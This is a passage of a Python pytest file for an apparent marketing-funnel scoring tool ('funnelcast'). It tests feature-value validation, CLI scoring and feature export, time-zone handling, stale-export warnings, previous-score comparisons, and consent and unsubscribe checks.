        assert "row 3 of the feature table, counting from 0, the only one in rows 0 to 59" in said
        assert "build the features with funnelcast's feature engine and the model's own" in said
    twice = _with(wrong, name, value, row=50)
    with pytest.raises(FeatureValueError) as chunk:
        model.predict_frame(twice, reasons=False, first_row=20_000)
    assert chunk.value.row == 20_003
    said = str(chunk.value)
    assert (
        "row 20,003 of the feature table, counting from 0, the first of 2 in rows 20,000 to "
        in said
    )


def test_only_a_stage_that_is_none_is_refused_nulls_nan_and_new_segments_are_missing(
    batch: tuple[Any, pl.DataFrame],
) -> None:
    """What the refusals leave alone: null and NaN are missing values, a stage-less contact's
    rules_stage may be null, and a category of an attribute not seen in training (a new
    segment) is scored as missing, as LightGBM scores it; only a closed vocabulary's
    (rules_stage's) unknown value is a mistake."""
    model, kept = batch
    nulls = kept.with_columns(
        pl.lit(None, pl.Float64).alias("days_since_last_event"),
        pl.lit(None, pl.String).alias("rules_stage"),
        pl.lit(None, pl.String).alias("segment"),
    )
    others = kept.with_columns(
        pl.lit(float("nan")).alias("days_since_last_event"),
        pl.lit(None, pl.String).alias("rules_stage"),
        pl.lit("brand_new_segment").alias("segment"),
    )
    # the same numbers (the reasons quote the segment given)
    expected = model.predict_frame(nulls).drop("reason_1", "reason_2", "reason_3")
    for got in (
        model.predict_frame(others),
        pl.from_pandas(model.predict(None, others.to_pandas())),
    ):
        assert_frame_equal(got.select(expected.columns), expected)
    with pytest.raises(FeatureValueError, match="'rules_stage' is 'brand_new_segment', not one"):
        model.predict_frame(_with(others, "rules_stage", "brand_new_segment", row=0))


def test_values_no_feature_table_holds_are_an_input_error_naming_the_column(
    batch: tuple[Any, pl.DataFrame],
) -> None:
    """Review: a date where a number goes was read as its microseconds since 1970 and the
    reasons stopped with a ValueError; a pandas column of text among numbers stopped in
    Arrow with a TypeError. Both are an InputError naming the column."""
    model, kept = batch
    dated = kept.with_columns(pl.lit(dt.datetime(2026, 1, 1)).alias("days_since_last_event"))
    for call in (
        lambda: model.predict_frame(dated),
        lambda: model.predict(None, dated.to_pandas()),
    ):
        with pytest.raises(InputError, match="feature 'days_since_last_event' is dates or times"):
            call()
    mixed = kept.to_pandas()
    mixed["purchase_value_sum_all"] = ["many", *mixed["purchase_value_sum_all"][1:]]
    with pytest.raises(InputError, match="column 'purchase_value_sum_all' cannot be read as one"):
        model.predict(None, mixed)
    mixed["purchase_value_sum_all"] = [[1.0, 2.0]] * len(mixed)  # a list per contact
    with pytest.raises(
        InputError, match=r"'purchase_value_sum_all' is neither numbers nor text \(List"
    ):
        model.predict(None, mixed)


def test_decimals_and_true_false_are_read_as_the_numbers_they_are_reasons_included(
    batch: tuple[Any, pl.DataFrame],
) -> None:
    """Review: a table of decimal numbers (a database export) or of true/false was scored,
    then the reasons stopped with a ValueError on the first such value they quoted. They are
    the numbers the model reads (true is 1, as the service reads a JSON true)."""
    model, kept = batch
    numbers = [n for n in model.feature_names if n not in model.categories]
    decimals = kept.with_columns(pl.col(numbers).cast(pl.Float64).round(2).cast(pl.Decimal(20, 2)))
    floats = decimals.with_columns(pl.col(numbers).cast(pl.Float64))
    assert_frame_equal(model.predict_frame(decimals), model.predict_frame(floats))
    flags = kept.with_columns(pl.col(numbers).fill_null(0) > 0)
    ones = flags.with_columns(pl.col(numbers).cast(pl.Float64))
    assert_frame_equal(model.predict_frame(flags), model.predict_frame(ones))


def test_score_names_a_refused_value_by_its_row_among_all_the_contacts_scored(
    served: Served, batch: tuple[Any, pl.DataFrame], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The weekly job scores in chunks; a value the model refuses (here a negative count,
    which no builder makes) stops it naming the row in the whole table of consented
    contacts, which `funnelcast features` with the model writes, not in its chunk."""
    model, kept = batch
    monkeypatch.setattr(scoring, "CHUNK_ROWS", 20)
    wrong = _with(kept, "event_count_90d", -1.0, row=45)
    with pytest.raises(FeatureValueError, match="never negative") as caught:
        scoring.score_features(
            model,
            wrong,
            served.contacts,
            events=served.events,
            as_of=AS_OF,
            model_name="m",
            model_version="1",
        )
    assert caught.value.row == 45
    said = str(caught.value)
    assert "row 45 of the feature table, counting from 0, the only one in rows 40 to 59" in said


def test_features_for_a_model_are_built_with_its_own_spec_and_rules(
    served: Served, data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`features --version 1` writes the features the registered model reads, with its own
    spec and rules, as score builds them: precomputed-features requests then score as the
    score file does. Without a model, the shipped spec and the config's rules: a model
    trained with other rules (a 14-day lookback) would read other rules stages."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    out = tmp_path / "features.parquet"
    args = ["features", "--events", str(data), "--as-of", "2026-04-20", "--out", str(out)]
    runner = CliRunner()
    result = runner.invoke(app, [*args, "--tracking-uri", served.store, "--version", "1"])
    assert result.exit_code == 0, result.output
    assert "With the feature spec and rules of funnelcast version 1" in " ".join(
        result.output.split()
    )
    expected = restrict_to_consented(
        build_contact_features(
            served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
        ),
        served.contacts,
    ).kept
    assert_frame_equal(pl.read_parquet(out), expected, check_dtypes=False)
    # a model trained with other rules: its rules, not the config's, make the rules stage
    other = copy.copy(model)
    other.rules = model.rules.model_copy(update={"lookback_days": 14})
    monkeypatch.setattr(
        cli,
        "_registered",
        lambda *_: (other, registered_model(ServiceSettings(tracking_uri=served.store))[1]),
    )
    result = runner.invoke(app, [*args, "--version", "1"])
    assert result.exit_code == 0, result.output
    got = pl.read_parquet(out)
    defaults = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    theirs = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=other.rules
    )
    assert not theirs["rules_stage"].equals(defaults["rules_stage"])  # the rules tell
    assert_frame_equal(got, restrict_to_consented(theirs, served.contacts).kept, check_dtypes=False)
    refused = runner.invoke(app, [*args, "--version", "1", "--spec", str(tmp_path / "x.yaml")])
    assert isinstance(refused.exception, InputError)
    assert "--spec and a model" in str(refused.exception)
    monkeypatch.undo()
    # --tracking-uri alone names the store's champion, as for score; without a contacts
    # table the model's attributes are written as missing values, and said, so the file
    # holds every feature a request must give
    events_only = tmp_path / "events"
    events_only.mkdir()
    (events_only / "events.parquet").symlink_to(data / "events.parquet")
    bare = tmp_path / "bare.parquet"
    result = runner.invoke(
        app,
        [
            "features",
            "--events",
            str(events_only),
            "--as-of",
            "2026-04-20",
            "--out",
            str(bare),
            "--assume-consent",
            "--tracking-uri",
            served.store,
        ],
    )
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "With the feature spec and rules of funnelcast version 1" in said
    listed = ", ".join(model.attribute_features)
    assert f"does not hold ({listed}): written as missing values" in said
    written = pl.read_parquet(bare)
    assert set(model.feature_names) <= set(written.columns)
    assert all(written[name].null_count() == written.height for name in model.attribute_features)


def test_features_for_a_model_leave_out_contacts_columns_it_does_not_read(
    served: Served, data: Path, tmp_path: Path
) -> None:
    """A contacts table with an e-mail address and a phone number: the spec's `attributes:
    all` took them in, `features --version 1` wrote them beside the model's features, and the
    service refused those rows as unknown features (export review). The file holds the model's
    features only, and says what it left out; a row of it scores as a request."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    folder = tmp_path / "pii"
    folder.mkdir()
    (folder / "events.parquet").symlink_to(data / "events.parquet")
    contacts = pl.from_arrow(served.contacts)
    assert isinstance(contacts, pl.DataFrame)
    contacts.with_columns(
        (pl.col("contact_id") + "@mail.example").alias("email"),
        pl.lit("+44 20 7946 0000").alias("phone"),
    ).write_parquet(folder / "contacts.parquet")
    out = tmp_path / "features.parquet"
    result = CliRunner().invoke(
        app,
        [
            *("features", "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out)),
            *("--tracking-uri", served.store, "--version", "1"),
        ],
    )
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "Left out 2 contacts column(s) the model does not read (email, phone)" in said
    written = pl.read_parquet(out)
    assert written.columns == ["contact_id", "as_of", *model.feature_names]
    scorer = load_scorer(ServiceSettings(tracking_uri=served.store, version="1"))
    row = written.drop("contact_id", "as_of").row(0, named=True)
    request = ContactRequest.model_validate(
        {"marketing_consent": True, "as_of": AS_OF.isoformat(), "features": row}
    )
    (prediction,) = scorer.predict([request])
    assert prediction.stage in STAGES


def test_events_contacts_and_previous_scores_at_an_offset_polars_has_no_zone_for_are_read(
    served: Served, data: Path, scored: Path, tmp_path: Path
) -> None:
    """Times at '+05:30' (pandas writes India's so), a zone Polars has none for, made score
    panic with a traceback (review): in the events, in a contacts time attribute and in the
    previous scores' as_of they are read as their instants, so the scores are those of the
    same data in UTC."""
    local = tmp_path / "local"
    local.mkdir()
    pq.write_table(in_zone(served.events, "timestamp", "+05:30"), local / "events.parquet")
    # the model's date attribute given as the time of its UTC midnight, at +05:30
    pq.write_table(in_zone(served.contacts, "signup_date", "+05:30"), local / "contacts.parquet")
    previous = in_zone(pq.read_table(scored), "as_of", "+05:30")
    pq.write_table(previous, tmp_path / "previous.parquet")
    out, expected = tmp_path / "scores.parquet", tmp_path / "expected.parquet"
    args = ["--as-of", "2026-04-21", "--previous", str(tmp_path / "previous.parquet")]
    result = _score(served, "--events", str(local), "--out", str(out), *args)
    assert result.exit_code == 0, result.output
    assert "previous: the scores as of 2026-04-20" in " ".join(result.output.split())
    in_utc = _score(served, "--events", str(data), "--out", str(expected), *args)
    assert in_utc.exit_code == 0, in_utc.output
    assert_frame_equal(pl.read_parquet(out), pl.read_parquet(expected))


def test_a_late_previous_is_refused_whatever_form_its_as_of_takes(
    served: Served, data: Path, tmp_path: Path
) -> None:
    """Review: a Date column, or text with an offset, let a later file pass for last week's."""
    late = dt.date(2026, 4, 27)
    forms = {
        "date.parquet": pl.Series([late]),
        "offset.csv": pl.Series([f"{late}T01:00:00+02:00"]),  # 2026-04-26T23:00Z
        "naive.parquet": pl.Series([dt.datetime(2026, 4, 20)]),
    }
    for name, as_of in forms.items():
        frame = pl.DataFrame({"contact_id": ["a"], "stage": ["intent"]}).with_columns(as_of=as_of)
        previous = _previous(tmp_path, frame, name)
        out = tmp_path / "scores.parquet"
        args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(out)]
        result = _score(served, *args, "--previous", str(previous))
        assert isinstance(result.exception, InputError), (name, result.output)
        assert "not before this run's as_of 2026-04-20" in str(result.exception)


def test_what_would_go_wrong_quietly_is_refused_or_said(
    served: Served, data: Path, tmp_path: Path
) -> None:
    """Review: --out matching an --events glob replaced an events file; --out as the folder's
    stage_history was accepted; a contacts table without one consent failed only after the
    build, saying to give the contacts table; events in the future set a default as_of after
    them; a failed run left the --out folders it made."""
    parts = tmp_path / "parts"
    parts.mkdir()
    (parts / "part-0.parquet").symlink_to(data / "events.parquet")
    glob = str(parts / "part-*.parquet")
    out = str(parts / "part-1.parquet")
    result = _score(served, "--events", glob, "--assume-consent", "--out", out)
    assert isinstance(result.exception, InputError)
    assert "matches --events" in str(result.exception)
    # a glob of folders too (review: only the last part of a glob was read as one)
    deep = str(tmp_path / "p?rts" / "part-[0-9].parquet")
    result = _score(served, "--events", deep, "--assume-consent", "--out", out)
    assert isinstance(result.exception, InputError)
    assert "matches --events" in str(result.exception)
    result = _score(served, "--events", str(data), "--out", str(data / "stage_history.parquet"))
    assert "is the stage_history table of the events' folder" in str(result.exception)
    history = ["--out", str(data / "stage_history.parquet"), "--as-of", "2026-04-20"]
    result = CliRunner().invoke(app, ["features", "--events", str(data), *history])
    assert "is the stage_history table of the events' folder" in str(result.exception)

    nobody = tmp_path / "nobody"
    nobody.mkdir()
    (nobody / "events.parquet").symlink_to(data / "events.parquet")
    contacts = pl.DataFrame(served.contacts).with_columns(marketing_consent=False)
    contacts.write_parquet(nobody / "contacts.parquet")
    scores = tmp_path / "new" / "sub" / "scores.csv"
    result = _score(served, "--events", str(nobody), "--out", str(scores))
    assert isinstance(result.exception, InputError)
    assert f"none of the {contacts.height:,} contacts in" in str(result.exception)
    assert "has marketing consent, so there is nobody to score" in str(result.exception)
    assert "Loading the model" not in result.output
    assert not (tmp_path / "new").exists()  # no folder left behind

    future = tmp_path / "future"
    future.mkdir()
    events = pl.DataFrame(served.events)
    late = events.head(1).with_columns(timestamp=pl.lit(dt.datetime(2099, 1, 1, tzinfo=dt.UTC)))
    pl.concat([events, late]).write_parquet(future / "events.parquet")
    result = _score(served, "--events", str(future), "--assume-consent", "--out", str(scores))
    assert isinstance(result.exception, InputError)
    said = str(result.exception)
    assert "runs to 2099-01-01 00:00 UTC, more than 5 minutes after now: events in the" in said
    # tomorrow is a date --as-of takes (the default's when the events run to today), and it
    # would read those future events as well
    tomorrow = (dt.datetime.now(dt.UTC).date() + dt.timedelta(days=1)).isoformat()
    as_of = ("--as-of", tomorrow)
    result = _score(
        served, "--events", str(future), "--assume-consent", "--out", str(scores), *as_of
    )
    assert "after now: events in the future" in str(result.exception)


def test_score_takes_tomorrow_as_of_as_its_default_does_and_no_later_day(
    served: Served, data: Path, tmp_path: Path
) -> None:
    """`score` with events up to today runs as of tomorrow, and `--as-of` tomorrow was refused
    as a date in the future: a cron job could not give the default's date (README review)."""
    today = dt.datetime.now(dt.UTC).date()
    tomorrow, later = today + dt.timedelta(days=1), today + dt.timedelta(days=2)
    out = tmp_path / "scores.parquet"
    common = ("--events", str(data), "--out", str(out), "--no-reasons")
    result = _score(served, *common, "--as-of", tomorrow.isoformat())
    assert result.exit_code == 0, result.output
    # the simulated events end in April: every contact ages into dormant, which is said
    assert f"days before --as-of {tomorrow}" in " ".join(result.output.split())
    as_of = pl.read_parquet(out)["as_of"].unique().to_list()
    assert [moment.date() for moment in as_of] == [tomorrow]
    result = _score(served, *common, "--as-of", later.isoformat())
    assert isinstance(result.exception, InputError)
    assert f"--as-of {later} is in the future; give a date up to {tomorrow}" in str(
        result.exception
    )


def test_other_contacts_or_another_model_in_the_previous_scores_are_said(
    served: Served, data: Path, scored: Path, tmp_path: Path
) -> None:
    previous = pl.read_parquet(scored).with_columns(
        pl.lit("x-").add(pl.col("contact_id")).alias("contact_id"),
        pl.lit("7").alias("model_version"),
        pl.col("as_of").dt.offset_by("-7d"),
    )
    path = _previous(tmp_path, previous)
    out = tmp_path / "scores.parquet"
    args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"]
    result = _score(served, *args, "--previous", str(path))
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert f"None of the previous scores' {previous.height:,} contacts is scored now" in said
    assert (
        "The previous scores are of funnelcast version 7 and these of funnelcast version 1: "
        "the movement is the models' difference as well as the contacts'." in said
    )
    assert "x-" not in result.output  # no id on the console


def test_a_narrow_terminal_wraps_the_tables_but_cuts_no_figure(
    served: Served, data: Path, scored: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    previous = pl.read_parquet(scored).with_columns(pl.col("as_of").dt.offset_by("-7d"))
    out = tmp_path / "scores.parquet"
    args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"]
    args += ["--previous", str(_previous(tmp_path, previous))]
    monkeypatch.setattr(cli.console, "_width", 60)  # fixed when the console was made
    result = _score(served, *args)
    assert result.exit_code == 0, result.output
    tables = result.output[result.output.index("Contacts by predicted stage") :]
    assert "…" not in tables  # (a progress bar's long path is shortened: not a figure)
    assert tables.count("consideration") == 2


@pytest.mark.parametrize("name", ["previous.parquet", "previous.csv"])
def test_an_empty_previous_file_is_said_and_no_movement_is_shown(
    served: Served, data: Path, scored: Path, tmp_path: Path, name: str
) -> None:
    """A header-only file (last week's run cut short) counted every contact as new and said
    no stage lost any, a clean week, exit 0 (batch review)."""
    empty = pl.read_parquet(scored).head(0).with_columns(pl.col("as_of").dt.offset_by("-7d"))
    out = tmp_path / "scores.parquet"
    args = ["--events", str(data), "--as-of", "2026-04-20", "--out", str(out), "--no-reasons"]
    result = _score(served, *args, "--previous", str(_previous(tmp_path, empty, name)))
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    # (the path may be cut at the console's width: its folders are a test worker's)
    assert "holds no scores (0 contacts): there is nothing to compare with" in said
    assert "Where the previous scores' contacts are now" not in said
    assert "lost any to a shallower stage" not in said
    assert "were not in the previous scores" not in said
    assert pl.read_parquet(out).height == pl.read_parquet(scored).height  # scored all the same


def test_the_previous_model_is_named_only_when_it_is_another_and_only_as_a_model_name() -> None:
    """Review: a file without model_name was "? version 1", another model; a null version
    printed "None"; the values were shown unchecked (a file's columns may be swapped)."""
    frame = pl.DataFrame({"contact_id": ["a", "b"], "model_version": ["1", None]})
    assert other_model(frame, "funnelcast", "1") is None  # no name: the version alone decides
    assert other_model(frame, "funnelcast", "2") == "funnelcast version 1"
    named = frame.with_columns(model_name=pl.lit("funnelcast-olist"))
    assert other_model(named, "funnelcast-olist", "1") is None
    assert other_model(named, "funnelcast", "1") == "funnelcast-olist version 1"
    swapped = frame.with_columns(model_name=pl.lit("jane@example.com"))
    assert other_model(swapped, "funnelcast", "1") == "another model"
    assert other_model(pl.DataFrame({"contact_id": ["a"]}), "funnelcast", "1") is None
    assert other_model(None, "funnelcast", "1") is None


@pytest.mark.parametrize(("days", "said"), [(7, False), (8, True)])
def test_an_export_is_said_stale_only_past_a_week(
    days: int, said: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    from serving.cli import _say_if_stale

    now = dt.datetime.now(dt.UTC)
    _say_if_stale(now - dt.timedelta(days=days), "--events x")
    assert ("days ago" in capsys.readouterr().out) == said


@pytest.mark.parametrize(("days", "said"), [(7, False), (8, True)])
def test_with_an_as_of_given_the_events_end_is_measured_from_it(
    days: int, said: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    """A scheduler gives --as-of, and the warning was only for the default: an export that
    stopped showed every contact ageing into dormant, exit 0 and not a word (batch review)."""
    from serving.cli import _say_if_stale

    as_of = dt.datetime(2026, 4, 20, tzinfo=dt.UTC)
    last = as_of - dt.timedelta(days=days) + dt.timedelta(hours=23)  # that day's evening
    _say_if_stale(last, "--events x", as_of=as_of)
    out = " ".join(capsys.readouterr().out.split())
    assert ("days before --as-of" in out) == said
    if said:
        assert f"ends on {last:%Y-%m-%d}, {days} days before --as-of 2026-04-20" in out
    assert "days ago" not in out


def test_the_default_as_of_is_never_after_the_end_of_today() -> None:
    """An event a minute past midnight, within the clock skew allowed, dated the scores the
    day after tomorrow (diff review): the default is at most tomorrow's midnight."""
    from serving.funnel import default_as_of

    today = dt.date(2026, 12, 6)
    tomorrow = dt.datetime(2026, 12, 7, tzinfo=dt.UTC)
    assert default_as_of(tomorrow + dt.timedelta(minutes=1), today=today) == tomorrow
    assert default_as_of(None, today=today) == tomorrow
    yesterday = tomorrow - dt.timedelta(days=2)
    assert default_as_of(
        yesterday + dt.timedelta(hours=23), today=today
    ) == tomorrow - dt.timedelta(days=1)


def test_without_a_date_given_the_default_as_of_reads_today_from_the_clock() -> None:
    from serving.funnel import default_as_of

    before = dt.datetime.now(dt.UTC).date()
    got = default_as_of(None)
    after = dt.datetime.now(dt.UTC).date()
    assert got.time() == dt.time()
    assert got.tzinfo is not None
    assert got.date() - dt.timedelta(days=1) in {before, after}


def test_batch_reasons_read_each_contact_as_its_features_by_name_give_them(served: Served) -> None:
    """The batch path reads each contact's values for the reasons from the table's columns
    (not a dict per contact, which cost a third of its scoring); the reasons are those of the
    contacts' features as dicts by name, missing values (None) among them."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    features = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    rows = features.select(model.feature_names).to_dicts()
    assert any(value is None for row in rows for value in row.values())
    by_name = model.score_matrix(model.encode_frame(features), rows)["reasons"]
    got = model.predict_frame(features).select("reason_1", "reason_2", "reason_3").rows()
    assert [list(reasons) for reasons in got] == [
        [*reasons, *[None] * (3 - len(reasons))] for reasons in by_name
    ]
    assert sum(len(reasons) for reasons in by_name) > len(rows)  # reasons were given


def test_the_objects_loaded_before_scoring_are_left_to_the_collector_after_it(
    served: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    """While the chunks are scored, the objects that existed before (the model, the libraries)
    are frozen out of the cycle collector's full collections, which walked them for every
    chunk; after it, they are the collector's again. When something froze objects before
    (the service's tests load it in this process), nothing more is frozen: a freeze could
    not be undone without undoing theirs."""
    import gc

    model, info = registered_model(ServiceSettings(tracking_uri=served.store))
    features = build_contact_features(
        served.events, served.contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    real = type(model).predict_frame
    frozen: list[int] = []

    def counting(self: Any, *args: Any, **kwargs: Any) -> pl.DataFrame:
        frozen.append(gc.get_freeze_count())
        return real(self, *args, **kwargs)

    monkeypatch.setattr(type(model), "predict_frame", counting)
    monkeypatch.setattr(scoring, "CHUNK_ROWS", 50)

    def score() -> int:
        frozen.clear()
        return scoring.score_features(
            model,
            features,
            served.contacts,
            events=served.events,
            as_of=AS_OF,
            model_name=str(info.model_name),
            model_version=str(info.model_version),
        ).table.height

    was_frozen = gc.get_freeze_count() > 0
    gc.unfreeze()  # what other tests froze goes back to the collector (restored below)
    try:
        rows = score()
        assert len(frozen) == -(-rows // 50) > 1
        assert min(frozen) > 0  # the model, at least, was frozen for every chunk
        assert gc.get_freeze_count() == 0
        gc.freeze()  # as a server or a notebook may have done
        before = gc.get_freeze_count()
        score()
        # none frozen more (a frozen object freed leaves the count, so it may fall)
        assert len(frozen) > 1
        assert max(frozen) <= before
        assert gc.get_freeze_count() <= before
    finally:
        gc.unfreeze()
        if was_frozen:
            gc.freeze()


def test_categories_the_model_never_saw_are_said_and_scored_as_missing(
    served: Served, data: Path, tmp_path: Path
) -> None:
    """A contacts export that re-cased its segments (BUDGET for budget) changed 326 scores
    without a word: every such value is a missing one to the model (scoring review)."""
    model, _ = registered_model(ServiceSettings(tracking_uri=served.store))
    assert "segment" in model.categories
    contacts = pl.DataFrame(served.contacts)
    shouting = contacts.with_columns(pl.col("segment").cast(pl.String).str.to_uppercase())
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "events.parquet").symlink_to(data / "events.parquet")
    shouting.write_parquet(folder / "contacts.parquet")
    out = tmp_path / "scores.parquet"
    result = _score(served, "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out))
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    got = pl.read_parquet(out)
    valued = got.join(contacts.select("contact_id", "segment"), on="contact_id")
    count = valued["segment"].drop_nulls().len()
    assert count > 0
    assert (
        f"segment: {count:,} of the {count:,} contacts with a value hold a category the model "
        "never saw in training, scored as missing (none of them is one of its categories"
    ) in said
    # scored as missing: as the model scores the same features with no segment
    features = build_contact_features(
        served.events, contacts, as_of=AS_OF, spec=model.spec, rules=model.rules
    )
    blank = features.filter(pl.col("contact_id").is_in(got["contact_id"].to_list()))
    expected = model.predict_frame(blank.with_columns(pl.lit(None, pl.String).alias("segment")))
    assert got["propensity"].to_list() == expected["propensity"].to_list()
    # the export as trained on: not a word
    normal = _score(
        served, "--events", str(data), "--as-of", "2026-04-20", "--out", str(tmp_path / "n.csv")
    )
    assert normal.exit_code == 0, normal.output
    assert "never saw in training" not in normal.output


def test_consented_contacts_who_unsubscribed_are_scored_and_counted(
    served: Served, data: Path, scored: Path, tmp_path: Path
) -> None:
    """Consent is the contacts table's; an unsubscribe event in the log of a contact the
    table still gives consent (a CRM export lagging) is said as a count, so the operator
    can update the export (scoring review: such a contact went out with a buy-now call to
    action, and nothing was said). An unsubscribe at or after as_of is not counted."""
    events = pl.DataFrame(served.events)
    consented = pl.DataFrame(served.contacts).filter(pl.col("marketing_consent"))
    ids = pl.read_parquet(scored)["contact_id"]
    chosen = [i for i in consented["contact_id"].to_list() if i in set(ids.to_list())][:3]
    before = dt.datetime(2026, 4, 19, 10, tzinfo=dt.UTC)
    moments = [before, before, AS_OF]  # two before as_of, one at it: not before
    template = events.filter(pl.col("contact_id") == chosen[0]).head(1)
    added = pl.concat(
        template.with_columns(
            contact_id=pl.lit(who, template.schema["contact_id"]),
            event_type=pl.lit("unsubscribe", template.schema["event_type"]),
            timestamp=pl.lit(at, template.schema["timestamp"]),
        )
        for who, at in zip(chosen, moments, strict=True)
    )
    already = int(  # consented contacts whose log already holds one (none, as simulated)
        events.filter(
            (pl.col("event_type") == "unsubscribe")
            & (pl.col("timestamp") < AS_OF)
            & pl.col("contact_id").is_in(ids.to_list())
        )["contact_id"].n_unique()
    )
    folder = tmp_path / "data"
    folder.mkdir()
    pl.concat([events, added]).write_parquet(folder / "events.parquet")
    (folder / "contacts.parquet").symlink_to(data / "contacts.parquet")
    out = tmp_path / "scores.parquet"
    result = _score(served, "--events", str(folder), "--as-of", "2026-04-20", "--out", str(out))
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert (
        f"{already + 2:,} of the scored contacts unsubscribed before 2026-04-20 (an "
        "unsubscribe event), yet have marketing consent"
    ) in said
    assert set(chosen) <= set(pl.read_parquet(out)["contact_id"].to_list())  # scored
    normal = _score(
        served, "--events", str(data), "--as-of", "2026-04-20", "--out", str(tmp_path / "n.csv")
    )
    assert ("unsubscribed before" in normal.output) == (already > 0)
